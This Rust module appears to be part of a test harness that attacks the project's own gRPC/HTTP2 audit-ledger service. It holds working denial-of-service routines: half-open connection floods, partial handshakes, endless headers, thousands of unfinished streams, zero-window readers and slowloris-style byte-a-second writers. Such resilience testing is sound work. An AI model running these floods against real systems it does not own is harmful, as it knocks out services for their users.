//! Attackers who take up room and do nothing with it.

use std::{io, time::Duration};

use tokio::{io::AsyncWriteExt as _, time::sleep};

use super::{
    floods::{BATCH, HEALTH, STREAM},
    frames::{
        Asked, DATA, END_STREAM, INITIAL_WINDOW_SIZE, PREFACE, declared, frame, greeting, message,
        streams,
    },
    line::{Line, Manner, Target},
};

const RECORDS: &str = "/judgement.ledger.v1.AuditService/StreamRecords";
const QUERY: &str = "/judgement.ledger.v1.AuditService/QueryAudit";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// How many connections an attacker has that are not begun.
const UNFINISHED: usize = 2_000;

/// Says this on so many connections, one after the other, each of which stays.
async fn half_open(target: &Target, said: &[u8]) -> io::Result<()> {
    for _ in 0..UNFINISHED {
        let mut stream = target.connect().await?;
        // One that is closed already cannot be written to.
        drop(stream.write_all(said).await);
    }
    Ok(())
}

pub async fn connected_only(target: Target) -> io::Result<()> {
    half_open(&target, b"").await
}

/// The head of a `ClientHello` of 512 bytes that does not come; in plain text, half a preface.
pub async fn handshake_begun(target: Target) -> io::Result<()> {
    let begun: &[u8] =
        if target.tls.is_some() { &[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3] } else { &PREFACE[..20] };
    half_open(&target, begun).await
}

/// As many as can be had that have said the preface and nothing more, each over its own connection.
pub async fn preface_only(target: Target) -> io::Result<()> {
    begun(&target, &greeting(&[])).await
}

/// The beginning of a request of HTTP/1.1.
pub async fn request_begun(target: Target) -> io::Result<()> {
    begun(&target, b"POST /judgement.ledger.v1.AuditService/QueryAudit HTTP/1.1\r\nx: ").await
}

async fn begun(target: &Target, said: &[u8]) -> io::Result<()> {
    for _ in 0..UNFINISHED / 4 {
        // Where there are too many from here already, another is not let in.
        if let Ok(line) = target.line(Manner::Deaf).await {
            drop(line.say(said).await);
            keep(line);
        }
    }
    Ok(())
}

/// Headers of HTTP/1.1 that go on and on, as far as they are taken, on many connections.
pub async fn endless_requests(target: Target) -> io::Result<()> {
    let header = format!("x: {}\r\n", "y".repeat(7_900));
    let said = format!("POST / HTTP/1.1\r\n{}", header.repeat(49));
    let mut lines = Vec::new();
    for _ in 0..250 {
        let line = target.line(Manner::Hears).await?;
        drop(line.say(said.as_bytes()).await);
        lines.push(line);
    }
    std::future::pending().await
}

/// Everything agreed on, and then nothing.
pub async fn silence(target: Target) -> io::Result<()> {
    for _ in 0..50 {
        keep(target.greeted(Manner::Hears, &[]).await?);
    }
    Ok(())
}

/// Streams that are opened and never finished, thousands on few connections.
pub async fn unfinished_streams(target: Target, path: &str, manner: Manner) -> io::Result<()> {
    let token = (!path.starts_with("/grpc.")).then(|| target.token(path));
    unfinished(&target, Asked::call(path, token.as_deref()), &[], manner).await
}

/// 600 bytes of a message that says to be this long, on as many streams as there may be.
pub async fn unfinished_messages(target: Target, length: u32) -> io::Result<()> {
    let said = declared(false, length, &[0; 600]);
    let token = target.token(BATCH);
    let asked = Asked::call(BATCH, Some(&token));
    unfinished(&target, asked, &said, Manner::Hears).await
}

async fn unfinished(
    target: &Target,
    asked: Asked<'_>,
    said: &[u8],
    manner: Manner,
) -> io::Result<()> {
    const CONNECTIONS: usize = 10;
    const STREAMS: usize = 20_000;
    let mut lines = Vec::new();
    for _ in 0..CONNECTIONS {
        lines.push((target.greeted(manner, &[]).await?, streams()));
    }
    for _ in 0..STREAMS / CONNECTIONS / 50 {
        for (line, numbers) in &mut lines {
            let some = numbers.by_ref().take(50).flat_map(|stream| {
                let more = if said.is_empty() { vec![] } else { frame(DATA, 0, stream, said) };
                [asked.opens(stream), more].concat()
            });
            // One that was thrown out has nothing more to say.
            drop(line.say(&some.collect::<Vec<_>>()).await);
        }
    }
    for (line, _) in lines {
        keep(line);
    }
    Ok(())
}

/// Subscribers who take nothing.
pub async fn subscribers(target: Target, manner: Manner) -> io::Result<()> {
    so_many_subscribers(target, manner, 200).await
}

/// So many of them, of one caller.
pub async fn so_many_subscribers(target: Target, manner: Manner, many: usize) -> io::Result<()> {
    let token = target.token(RECORDS);
    let asked = Asked::call(RECORDS, Some(&token));
    ask(&target, manner, asked, &message(false, b""), many).await
}

/// Calls whose answers are never taken: of what those may ask who are known.
pub async fn unread_answers(target: Target, manner: Manner) -> io::Result<()> {
    let token = target.token(QUERY);
    let asked = Asked::call(QUERY, Some(&token));
    // `page_size` 1000.
    ask(&target, manner, asked, &message(false, &[0x18, 0xe8, 0x07]), 1_000).await
}

/// The same of what anybody may ask.
pub async fn unread_files(target: Target, manner: Manner) -> io::Result<()> {
    for path in ["/checkpoint", "/tile/0/000.p/1", "/tile/0/000"] {
        ask(&target, manner, Asked::file(path), b"", 500).await?;
    }
    ask(&target, manner, Asked::call(HEALTH, None), &message(false, b""), 500).await
}

/// Streams on which anybody may ask for large answers, again and again, and takes none.
pub async fn unread_descriptors(target: Target, manner: Manner) -> io::Result<()> {
    // `file_containing_symbol`.
    let symbol = b"judgement.ledger.v1.AssessmentService";
    let asked = [&[0x22, u8::try_from(symbol.len()).unwrap()][..], symbol].concat();
    let said = message(false, &asked).repeat(40);
    for _ in 0..4 {
        let line = target.greeted(manner, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
        for stream in streams().take(100) {
            let opened = Asked::call(REFLECTION, None).opens(stream);
            line.say(&[opened, frame(DATA, 0, stream, &said)].concat()).await?;
        }
        keep(line);
    }
    Ok(())
}

/// Asks on so many streams, 250 on each connection, and lets no answer be sent.
async fn ask(
    target: &Target,
    manner: Manner,
    asked: Asked<'_>,
    said: &[u8],
    streams_in_all: usize,
) -> io::Result<()> {
    let mut left = streams_in_all;
    while left > 0 {
        let line = target.greeted(manner, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
        let here = left.min(250);
        for stream in streams().take(here) {
            let opened = if said.is_empty() {
                asked.asks(stream)
            } else {
                [asked.opens(stream), frame(DATA, END_STREAM, stream, said)].concat()
            };
            if line.say(&opened).await.is_err() {
                break;
            }
        }
        keep(line);
        left -= here;
    }
    Ok(())
}

/// A byte a second: of the preface, of a frame, of a message, of a request of HTTP/1.1.
pub async fn slow_writers(target: Target) -> io::Result<()> {
    let open = Asked::call(STREAM, Some(&target.token(STREAM))).opens(1);
    let message = declared(false, 1_000, b"");
    let (begun, words) = (greeting(&[]), b"POST /x HTTP/1.1\r\nhost: localhost\r\nx: ".to_vec());
    let mut writers = tokio::task::JoinSet::new();
    for number in 0..60 {
        let target = target.clone();
        let (before, slowly) = match number % 4 {
            0 => (vec![], begun.clone()),
            1 => (begun.clone(), open.clone()),
            2 => ([&*begun, &open, &frame(DATA, 0, 1, &message)].concat(), open.clone()),
            _ => (words.clone(), b"y".repeat(100)),
        };
        writers.spawn(async move {
            let line = target.line(Manner::Hears).await?;
            line.say(&before).await?;
            for byte in slowly {
                line.say(&[byte]).await?;
                sleep(Duration::from_secs(1)).await;
            }
            std::future::pending::<io::Result<()>>().await
        });
    }
    while writers.join_next().await.is_some() {}
    Ok(())
}

/// A line that is never closed by who has it: its socket is held elsewhere.
fn keep(line: Line) {
    drop(line);
}
